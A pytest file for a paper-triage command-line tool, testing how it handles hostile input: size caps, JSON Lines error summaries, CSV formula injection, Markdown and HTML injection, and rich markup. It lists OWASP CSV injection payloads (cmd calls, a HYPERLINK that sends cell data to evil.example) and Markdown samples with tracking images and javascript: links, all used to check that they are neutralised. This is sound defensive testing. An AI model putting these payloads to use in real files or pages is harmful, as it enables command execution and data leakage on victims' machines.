"""Hostile local input and hostile paper text: size caps, line-by-line JSON Lines, summarised
errors, a closed stdin, CSV formulas, Markdown injection, rich markup."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import REPO
from helpers import jsonl, run
from markdown_it import MarkdownIt

from adapt_triage.render import csv_safe, md_escape, md_url, write_csv
from adapt_triage.sources import parse_bytes
from adapt_triage.sources.common import MAX_ABSTRACT_CHARS, MAX_TITLE_CHARS, REPEAT_LIMIT


def count_papers(db: Path) -> int:
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT count(*) FROM papers").fetchone()[0]


def a_paper(i: int, **fields) -> str:
    record = {
        "id": f"input-{i}",
        "title": f"Input paper {i}: adapters under shift",
        "abstract": f"Bottleneck adapters number {i} on a frozen backbone.",
    }
    record.update(fields)
    return json.dumps(record)


# --------------------------------------------------------------------------- size caps


def test_a_file_over_the_cap_is_refused_with_one_line_and_the_next_source_is_stored(tmp_path):
    big = tmp_path / "big.jsonl"
    with big.open("w") as out:  # 1.2 MB, one line
        out.write(json.dumps({"title": "x", "abstract": "y" * 1_200_000}) + "\n")
    good = tmp_path / "good.jsonl"
    good.write_text(a_paper(1) + "\n")
    db = tmp_path / "t.db"
    result = run(["ingest", str(big), str(good), "--max-size", "1"], db=db)
    assert result.exit_code == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("adapt-triage: ")]
    assert errors == [f"adapt-triage: {big}: file is 1.1 MB, more than the 1 MB limit (--max-size)"]
    assert count_papers(db) == 1


def test_stdin_over_the_cap_is_refused(tmp_path):
    db = tmp_path / "t.db"
    data = (a_paper(1) + "\n") * 40_000  # about 3.6 MB
    result = run(["ingest", "-", "--max-size", "2"], db=db, input=data)
    assert result.exit_code == 1
    assert "adapt-triage: -: input larger than the 2 MB limit (--max-size)" in result.stderr


def test_ingest_of_a_file_works_with_stdin_closed(tmp_path):
    good = tmp_path / "good.jsonl"
    good.write_text(a_paper(1) + "\n")
    db = tmp_path / "t.db"
    done = subprocess.run(
        [sys.executable, "-m", "adapt_triage", "--db", str(db), "ingest", str(good)],
        cwd=REPO,
        capture_output=True,
        text=True,
        preexec_fn=lambda: os.close(0),  # `0<&-`
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert count_papers(db) == 1
    # And `-` with stdin closed is that source's error, not a crash.
    dash = subprocess.run(
        [sys.executable, "-m", "adapt_triage", "--db", str(db), "ingest", "-", str(good)],
        cwd=REPO,
        capture_output=True,
        text=True,
        preexec_fn=lambda: os.close(0),
        timeout=60,
    )
    assert dash.returncode == 1
    assert "adapt-triage: -: cannot read stdin: it is closed" in dash.stderr
    assert "Traceback" not in dash.stderr and "unexpected" not in dash.stderr


# --------------------------------------------------------------------------- JSON Lines


def test_repeated_line_errors_are_summarised_after_twenty(tmp_path):
    lines = ["{}"] * 5000 + [a_paper(1)] + ['{"title": 3}'] * 25
    result = parse_bytes("\n".join(lines).encode(), source="many.jsonl")
    assert len(result.papers) == 1 and not result.fatal
    missing = [e for e in result.errors if "missing or empty title" in e]
    assert len(missing) == REPEAT_LIMIT + 1
    assert missing[0] == "many.jsonl: line 1: missing or empty title"
    assert missing[-1] == "many.jsonl: ... and 4,980 more lines: missing or empty title"
    assert result.errors[-1] == "many.jsonl: ... and 5 more lines: title is not a string"
    assert result.item_count == 5026


def test_a_million_lines_without_titles_give_a_short_stderr(tmp_path):
    path = tmp_path / "untitled.jsonl"
    path.write_bytes(b'{"x": 1}\n' * 1_000_000)
    db = tmp_path / "t.db"
    result = run(["ingest", str(path)], db=db)
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert len(lines) < 30
    assert f"adapt-triage: {path}: no readable paper in 1,000,000 JSON lines" in lines
    assert f"adapt-triage: {path}: ... and 999,980 more lines: missing or empty title" in lines


def test_jsonl_papers_are_made_one_at_a_time_not_held_in_a_list():
    data = "\n".join(a_paper(i) for i in range(50)).encode()
    result = parse_bytes(data, source="lazy.jsonl")
    assert not isinstance(result.papers, list)
    assert len(result.papers) == 50
    assert result.papers[49].input_id == "input-49"
    assert [p.input_id for p in result.papers][:2] == ["input-0", "input-1"]


@pytest.mark.parametrize(
    ("fields", "problem"),
    [
        ({"title": "t" * (MAX_TITLE_CHARS + 1)}, "title of 2,001 characters, more than 2,000"),
        (
            {"abstract": "a" * (MAX_ABSTRACT_CHARS + 1)},
            "abstract of 100,001 characters, more than 100,000",
        ),
        ({"title": "t" * 1_000_000}, "title of 1,000,000 characters, more than 2,000"),
    ],
)
def test_over_long_records_are_refused_with_a_line_not_stored(tmp_path, fields, problem):
    path = tmp_path / "long.jsonl"
    path.write_text(a_paper(1) + "\n" + a_paper(2, **fields) + "\n")
    db = tmp_path / "t.db"
    result = run(["ingest", str(path)], db=db)
    assert result.exit_code == 1
    assert f"adapt-triage: {path}: line 2: {problem}; refused" in result.stderr.splitlines()
    assert count_papers(db) == 1


def test_over_long_feed_items_are_refused_too():
    title = "t" * (MAX_TITLE_CHARS + 5)
    feed = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>'
        f"<item><title>{title}</title><link>https://a.example/1</link>"
        "<description>fine</description></item>"
        "<item><title>Short</title><link>https://a.example/2</link>"
        "<description>fine</description></item></channel></rss>"
    )
    result = parse_bytes(feed.encode(), source="feed.xml")
    assert [p.title for p in result.papers] == ["Short"]
    assert any("item 1: title of 2,005 characters" in e for e in result.errors)


# --------------------------------------------------------------------------- CSV

# OWASP "CSV Injection" payloads, and the audit's bypasses.
OWASP_CASES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1, "Click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=10+20+cmd|' /C calc'!A0",
    '=1+HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C notepad'!A0",
    "@1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("payload", OWASP_CASES)
def test_no_live_formula_in_a_csv_cell(payload):
    out = io.StringIO()
    write_csv([{"title": payload}], out, ["title"])
    cell = list(csv.reader(io.StringIO(out.getvalue())))[1][0]
    assert cell.startswith("'"), cell
    assert cell.lstrip("'").lstrip()[:1] in "=+-@\uff1d"


@pytest.mark.parametrize("number", ["-0.5", "+3", "1e-3", "-12.25", "0.91"])
def test_plain_numbers_stay_numbers(number):
    assert csv_safe(number) == number


def test_csv_export_of_hostile_titles_has_no_live_formula(tmp_path):
    path = tmp_path / "hostile.jsonl"
    path.write_text(
        "\n".join(a_paper(i, title=title) for i, title in enumerate(OWASP_CASES)) + "\n"
    )
    db = tmp_path / "t.db"
    assert run(["ingest", str(path)], db=db).exit_code == 0
    out = run(["export", "--format", "csv"], db=db).stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(OWASP_CASES)
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "@", "\t", "\r") or value.startswith("'")
            assert not value.startswith("-") or value.replace(".", "").lstrip("-").isdigit()


# --------------------------------------------------------------------------- Markdown

HOSTILE = [
    {"url": "https://a.example/>)![pixel](https://evil.example/p.png)<", "title": "Pixel"},
    {"url": "javascript:alert(1)", "title": "Script link"},
    {"url": "https://b.example/x", "title": "<img src=https://evil.example/i.png> caption"},
    {
        "url": "https://c.example/y",
        "title": "![t](https://evil.example/t.png) and [x](https://evil.example)",
    },
    {"url": "https://d.example/z", "title": "Entity &lt;img src=x&gt; and `code` and <b>bold</b>"},
    {
        "url": "https://e.example/q",
        "title": "Authors",
        "authors": ["# Heading", "<script>x</script>"],
    },
    {"url": "https://f.example/ (x)", "title": "Spaces and parens"},
]


def hostile_db(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.jsonl"
    path.write_text("\n".join(a_paper(i, **fields) for i, fields in enumerate(HOSTILE)) + "\n")
    db = tmp_path / "t.db"
    result = run(["ingest", str(path)], db=db)
    assert result.exit_code == 0, result.stderr
    return db


def tokens_of(markdown: str):
    parser = MarkdownIt("commonmark").enable("table")
    stack = list(parser.parse(markdown))
    while stack:
        token = stack.pop()
        yield token
        stack.extend(token.children or [])


ALLOWED_HOSTS = {f"https://{c}.example/" for c in "abcdef"}


@pytest.mark.parametrize(
    "command", [["digest", "--format", "markdown"], ["export", "--format", "markdown"]]
)
def test_markdown_has_no_image_no_html_and_only_the_papers_own_links(tmp_path, command):
    db = hostile_db(tmp_path)
    markdown = run(command, db=db).stdout
    kinds = [t.type for t in tokens_of(markdown)]
    assert "image" not in kinds
    assert "html_inline" not in kinds and "html_block" not in kinds
    assert "heading_open" not in kinds or command[0] == "digest"  # only the digest's own
    hrefs = [t.attrGet("href") for t in tokens_of(markdown) if t.type == "link_open"]
    assert len(hrefs) == len(HOSTILE) - 1  # javascript: is shown as text, not linked
    for href in hrefs:
        assert any(href.startswith(host) for host in ALLOWED_HOSTS), href
        assert not set(href) & set("<>() \"'")
    text = "".join(t.content for t in tokens_of(markdown) if t.type == "text")
    assert "![pixel]" not in markdown.replace("\\", "") or "pixel" in text
    assert "<img src=https://evil.example/i.png> caption" in text
    assert "&lt;img src=x&gt;" in text


def test_digest_headings_are_only_its_own(tmp_path):
    db = hostile_db(tmp_path)
    markdown = run(["digest", "--format", "markdown"], db=db).stdout
    headings = []
    tokens = list(MarkdownIt("commonmark").parse(markdown))
    for i, token in enumerate(tokens):
        if token.type == "heading_open":
            headings.append(tokens[i + 1].content)
    assert headings[0].startswith(("Papers since", "New papers"))
    assert all(h.startswith(("Papers since", "New papers")) or "(" in h for h in headings)


def test_md_helpers():
    assert md_url("https://a.example/>)![p](https://e.example/p.png)<") == (
        "https://a.example/%3E%29!%5Bp%5D%28https://e.example/p.png%29%3C"
    )
    assert md_url("javascript:alert(1)") is None
    assert md_escape("1. not a list") == "1\\. not a list"
    assert md_escape("<b>") == "\\<b\\>"


# --------------------------------------------------------------------------- rich


def test_search_query_and_titles_are_never_rich_markup(tmp_path):
    path = tmp_path / "markup.jsonl"
    path.write_text(a_paper(1, title="[bold red]Loud[/bold red] adapters [/x]") + "\n")
    db = tmp_path / "t.db"
    assert run(["ingest", str(path)], db=db).exit_code == 0
    for query in ("[/x]", "[bold]adapters", "adapters"):
        result = run(["search", query, "--format", "table"], db=db)
        assert result.exit_code in (0, 2), result.output
        assert "MarkupError" not in result.output
    table = run(["list", "--format", "table"], db=db).stdout
    assert "[bold red]Loud[/bold red]" in table
    # unquoted, FTS5 rejects "[/x]" (a usage error naming the problem); quoted, it matches
    titled = run(["search", '"[/x]"', "--format", "table"], db=db).stdout
    assert "[/x]" in titled


def test_hostile_records_never_leave_a_traceback(tmp_path):
    path = tmp_path / "h.jsonl"
    path.write_text(
        "\n".join(
            [a_paper(1, authors=[{"name": "[/]"}], url="[/x]"), '{"title": "\\u0000\\u001b[2J"}']
        )
        + "\n"
    )
    db = tmp_path / "t.db"
    run(["ingest", str(path)], db=db)
    for command in (["list", "--format", "table"], ["digest"], ["dedup"], ["feeds", "list"]):
        result = run(command, db=db)
        assert result.exit_code == 0, (command, result.output)
        assert "\x1b" not in result.output
    assert jsonl(run(["list", "--format", "jsonl"], db=db).stdout)


# --------------------------------------------------------------------------- charsets

RUSSIAN_FEED = (
    '<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item>'
    "<title>Адаптация моделей</title><link>https://a.example/1</link>"
    "<description>Низкоранговые адаптеры</description></item></channel></rss>"
)


def test_utf8_bytes_labelled_koi8r_are_read_as_utf8_with_a_warning():
    headers = {"Content-Type": "application/rss+xml; charset=koi8-r"}
    result = parse_bytes(RUSSIAN_FEED.encode("utf-8"), source="ru.xml", headers=headers)
    assert [p.title for p in result.papers] == ["Адаптация моделей"]
    assert result.warnings == [
        "ru.xml: the server says charset koi8-r, but the bytes are UTF-8; read as UTF-8"
    ]


def test_real_koi8r_bytes_labelled_koi8r_are_decoded_as_koi8r():
    headers = {"Content-Type": "application/rss+xml; charset=koi8-r"}
    result = parse_bytes(RUSSIAN_FEED.encode("koi8-r"), source="ru.xml", headers=headers)
    assert [p.title for p in result.papers] == ["Адаптация моделей"]
    assert result.warnings == []


# --------------------------------------------------------------------------- large JSON arrays


def test_a_large_json_array_is_read_item_by_item_not_built_whole():
    items = [json.loads(a_paper(i)) for i in range(15_000)] + [{"nope": 1}] * 30
    data = json.dumps(items).encode()
    assert len(data) > 1024 * 1024
    result = parse_bytes(data, source="big.json")
    assert result.format == "json" and not result.fatal
    assert not isinstance(result.papers, list)
    assert len(result.papers) == 15_000 and result.item_count == 15_030
    assert result.papers[-1].input_id == "input-14999"
    assert result.errors[0] == "big.json: item 15001: missing or empty title"
    assert result.errors[-1] == "big.json: ... and 10 more items: missing or empty title"


def test_a_large_broken_json_array_names_the_item():
    data = json.dumps([json.loads(a_paper(i)) for i in range(15_000)]).encode()
    result = parse_bytes(data[:-1] + b", oops]", source="broken.json")
    assert result.fatal
    assert result.errors == ["broken.json: line 1: invalid JSON: Expecting value (item 15001)"]
